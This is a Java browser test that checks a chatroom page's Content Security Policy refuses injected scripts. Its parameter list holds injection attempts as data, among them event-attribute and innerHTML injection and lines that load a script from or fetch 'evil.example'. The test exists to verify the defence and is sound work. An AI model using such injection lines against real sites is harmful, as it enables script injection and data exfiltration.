package dev.chatroom.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import dev.chatroom.support.Browser;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The page needs nothing that its Content Security Policy forbids, and the browser obeys that. */
@QuarkusTest
class StrictPolicyBrowserTest {

    @RegisterExtension static final Browser BROWSER = new Browser();

    @TestHTTPResource("/")
    String url;

    private final List<String> complaints = new ArrayList<>();

    private Visitor enter() {
        Page page = BROWSER.page();
        page.onConsoleMessage(message -> complaints.add(message.text()));
        return Visitor.enter(page, url);
    }

    @Test
    void thePageWorksAndTheBrowserComplainsOfNothing() {
        Visitor one = enter();

        one.say("all from files\nand in two lines");

        one.sees("all from files\nand in two lines");
        assertEquals(List.of(), complaints);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    an event attribute | document.body.setAttribute('onclick', 'alert()')
                    markup from a string | document.body.innerHTML = '<b>bold</b>'
                    code from a string | setTimeout('alert()')
                    a script from a string | document.createElement('script').text = 'alert()'
                    a script from elsewhere | document.createElement('script').src = '//evil.example'
                    a request elsewhere | await fetch('https://evil.example/')
                    """)
    void whatIsNotAllowedIsRefused(String what, String attempt) {
        Visitor one = enter();

        Object outcome =
                one.page()
                        .evaluate(
                                "async () => { try { %s; return 'done'; } catch (e) { return e.name; } }"
                                        .formatted(attempt));

        assertEquals("TypeError", outcome, what);
    }

    @Test
    void anInlineScriptInThePageIsNotRun() {
        Page page = BROWSER.page();
        page.onConsoleMessage(message -> complaints.add(message.text()));
        page.route(url, StrictPolicyBrowserTest::withAnInlineScript);

        page.navigate(url);

        assertEquals("Chatroom", page.title());
        assertTrue(complaints.toString().contains("inline script"), complaints.toString());
    }

    private static void withAnInlineScript(Route route) {
        var answer = route.fetch();
        String script = "<script>document.title = 'broken'</script></body>";
        route.fulfill(
                new Route.FulfillOptions()
                        .setResponse(answer)
                        .setBody(answer.text().replace("</body>", script)));
    }
}
